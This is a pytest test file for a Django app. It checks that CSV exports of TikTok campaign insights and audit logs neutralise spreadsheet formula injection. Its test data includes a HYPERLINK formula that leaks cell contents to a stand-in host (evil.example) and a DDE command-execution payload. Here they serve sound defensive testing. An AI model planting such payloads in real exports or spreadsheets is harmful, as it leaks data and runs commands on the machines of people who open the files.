"""CSV exports neutralise formula cells (OWASP): a TikTok-side name such as
`=HYPERLINK(...)` reaches the spreadsheet as text, and the export otherwise equals the table."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from integrations.csvexport import safe_cell
from integrations.models import Campaign, CampaignPost, Credential, PostInsight, TikTokAccount, TikTokOneAccount
from sparkads.models import AuditEvent

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-12", "-12"),
        ("-3.50", "-3.50"),
        ("-4.20%", "-4.20%"),
        (-7, "-7"),
        ("market.star", "market.star"),
        ("a=b", "a=b"),
        (None, ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote_and_plain_numbers_stay_numbers(value, cell):
    assert safe_cell(value) == cell


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_insights_export_neutralises_a_hostile_creator_handle(brand, bob, client):
    cred = Credential.objects.create(kind=Credential.Kind.BUSINESS, brand=brand, access_token="t")
    account = TikTokOneAccount.objects.create(tto_tcm_account_id="72", brand=brand, credential=cred)
    campaign = Campaign.objects.create(brand=brand, tiktok_one_account=account, campaign_id="79", name="C")
    creator = TikTokAccount.objects.create(handle=HYPERLINK)
    post = CampaignPost.objects.create(campaign=campaign, tiktok_account=creator, video_id="-77")
    PostInsight.objects.create(post=post, campaign=campaign, as_of="2026-03-01", video_views=5, ad_cost=-1.5)
    client.force_login(bob)
    rows = _rows(client.get(reverse("integrations:insights_export", args=[brand.slug, campaign.pk])))
    assert rows[1][:3] == ["'" + HYPERLINK, "-77", "5"]
    assert rows[1][10] == "-1.50"


def test_the_audit_export_neutralises_a_hostile_summary(brand, alice, client):
    AuditEvent.objects.create(brand=brand, kind="applied", summary=HYPERLINK, actor=alice)
    client.force_login(alice)
    rows = _rows(client.get(reverse("sparkads:audit", args=[brand.slug]), {"format": "csv"}))
    assert rows[0][0] == "time (UTC)" and rows[1][3] == "'" + HYPERLINK
